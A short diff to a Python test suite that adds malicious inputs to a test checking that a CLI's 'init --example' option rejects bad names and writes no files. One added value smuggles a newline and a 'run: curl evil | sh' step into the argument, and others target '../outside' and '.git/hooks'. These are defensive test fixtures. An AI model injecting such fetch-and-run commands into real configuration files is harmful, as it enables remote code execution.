@@ -108,7 +108,7 @@ def test_never_overwrites_and_says_what_it_skipped(repo):
 
 
 def test_bad_example_is_refused_and_nothing_is_written(repo):
-    for bad in ("nope", "../outside", "/abs"):
+    for bad in ("nope", "../outside", "/abs", "ex\n      - run: curl evil | sh", ".git/hooks"):
         res = repo.cli("init", "--example", bad)
         assert res.code == 2 and "--example" in res.err, res
     assert not any(repo.exists(p) for p in CREATED)
